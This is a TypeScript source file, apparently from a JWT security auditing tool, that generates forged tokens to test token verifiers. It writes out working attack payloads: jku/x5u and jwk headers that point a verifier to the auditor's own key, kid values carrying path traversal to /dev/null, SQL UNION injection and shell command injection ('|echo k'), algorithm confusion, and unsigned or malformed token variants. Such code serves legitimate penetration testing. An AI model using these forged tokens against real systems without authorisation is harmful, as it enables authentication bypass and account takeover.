import { EncryptJWT, exportJWK, generateKeyPair, SignJWT } from "jose";
import type { JWK } from "jose";
import { toBase64Url } from "../../shared/index.ts";
import { hmac } from "./forge.ts";
import type { ForgedToken } from "./forge.ts";
import type { DecodedToken } from "../requests/tokens.ts";

/** A key pair of the auditor's, and where it offers the public half. */
export interface OfferedKey {
  alg: string;
  jwk: JWK;
  privateKey: CryptoKey;
  /** Addresses of a listener of ours, where the key lies as a JWK set. Nobody else knows them. */
  urls: readonly string[];
}

/** Makes the pair that tokens after this one are signed with: of the algorithm that is accepted, if it can be ours. */
export async function ownKey({ header }: DecodedToken): Promise<Omit<OfferedKey, "urls">> {
  const isKnown = typeof header.alg === "string" && /^(RS256|PS256|ES256|EdDSA)$/.test(header.alg);
  const alg = isKnown ? String(header.alg) : "ES256";
  const { publicKey, privateKey } = await generateKeyPair(alg, { extractable: true });
  const kid = typeof header.kid === "string" ? { kid: header.kid } : {};
  return { alg, privateKey, jwk: { ...(await exportJWK(publicKey)), ...kid, alg, use: "sig" } };
}

const encode = (value: unknown): string => toBase64Url(new TextEncoder().encode(JSON.stringify(value)));

/**
 * Tokens whose header says where a key is to be had, or which: signed with a key of the auditor's that lies there, or with what a careless look-up
 * ends up with.
 *
 * @see RFC 7515 §4.1.2 to §4.1.8 and §10.6, RFC 8725 §3.10
 */
export async function misleading(token: DecodedToken, key: OfferedKey): Promise<ForgedToken[]> {
  return [
    ...(await leadingToOurs(token, key)),
    ...(await lookedUpCarelessly(token)),
    ...(await strange(token, key)),
  ];
}

/** Those that make whoever believes them ask the auditor for a key. */
async function leadingToOurs({ header, claims }: DecodedToken, key: OfferedKey): Promise<ForgedToken[]> {
  const { alg, privateKey, urls } = key;
  const typ = typeof header.typ === "string" ? { typ: header.typ } : {};
  const kid = typeof header.kid === "string" ? { kid: header.kid } : {};
  const sign = (more: object): Promise<string> =>
    new SignJWT(claims).setProtectedHeader({ alg, ...typ, ...more }).sign(privateKey);
  const named = await Promise.all(
    urls.flatMap((url) =>
      (["jku", "x5u"] as const).map(async (member) => ({
        name: `naming a key of ours at ${new URL(url).protocol}// (${member})`,
        value: await sign({ ...kid, [member]: url }),
      })),
    ),
  );
  return [
    ...named,
    { name: "with a kid that is an address of ours", value: await sign({ kid: urls[0] }) },
    { name: "bringing its own key in a kid that is an object", value: await sign({ kid: key.jwk }) },
    { name: "with a kid that is a list", value: await sign({ kid: [header.kid] }) },
    { name: "with an empty kid", value: await sign({ kid: "" }) },
    { name: "with a kid of 10,000 letters", value: await sign({ kid: "k".repeat(10_000) }) },
    { name: "with a kid that inherits (__proto__)", value: await sign({ kid: "__proto__" }) },
    {
      name: "bringing a chain that is none (x5c)",
      value: await sign({ ...kid, x5c: [btoa("not a certificate")] }),
    },
  ];
}

/** What a `kid` as a path or in a query ends up with, and the key that this is. */
const lookUps: readonly (readonly [kid: string, secret: string])[] = [
  ["../../../../../dev/null", ""],
  ["/proc/sys/kernel/randomize_va_space", "2\n"],
  ["x' UNION SELECT 'k'-- ", "k"],
  ['x" UNION SELECT "k"-- ', "k"],
  ["|echo k", "k\n"],
];

async function lookedUpCarelessly({ header, parts }: DecodedToken): Promise<ForgedToken[]> {
  return Promise.all(
    lookUps.map(async ([kid, secret]) => {
      const text = `${encode({ ...header, alg: "HS256", kid })}.${parts[1]}`;
      return {
        name: `with the kid ${JSON.stringify(kid)}, keyed with what that ends up with`,
        value: `${text}.${await hmac("HS256", new TextEncoder().encode(secret), text)}`,
      };
    }),
  );
}

/** Signed in ways that are no signature of the issuer's, in forms that a verifier may take for one. */
async function strange({ header, claims, parts }: DecodedToken, { jwk }: OfferedKey): Promise<ForgedToken[]> {
  const withAlg = (alg: unknown): string => `${encode({ ...header, alg })}.${parts[1]}.${parts[2]}`;
  const { alg: _, ...without } = header;
  const zeros = toBase64Url(new Uint8Array(64));
  const other =
    { RS256: "PS256", PS256: "RS256", ES256: "ES512", EdDSA: "ES256" }[String(header.alg)] ?? "RS256";
  const sealed = await new EncryptJWT(claims)
    .setProtectedHeader({ alg: "dir", enc: "A128GCM" })
    .encrypt(crypto.getRandomValues(new Uint8Array(16)));
  const embedded = `${encode({ ...header, jwk })}.${parts[1]}.${parts[2]}`;
  return [
    { name: `of the algorithm ${other}, the old signature`, value: withAlg(other) },
    { name: "without alg, the old signature", value: `${encode(without)}.${parts[1]}.${parts[2]}` },
    { name: "with an alg that is a list", value: withAlg([header.alg]) },
    { name: "with an empty alg", value: withAlg("") },
    {
      name: "of ES256, signed with zeros",
      value: `${encode({ ...header, alg: "ES256" })}.${parts[1]}.${zeros}`,
    },
    { name: "bringing a key that did not sign it (jwk)", value: embedded },
    { name: "encrypted by nobody in particular (JWE)", value: sealed },
    {
      name: "inside an unsigned one",
      value: `${encode({ alg: "none", cty: "JWT" })}.${encode(parts.join("."))}.`,
    },
    { name: "of two parts", value: `${parts[0]}.${parts[1]}` },
    {
      name: "of four parts",
      value: `${parts[0]}.${parts[1]}.${toBase64Url(new Uint8Array(64))}.${parts[2]}`,
    },
  ];
}
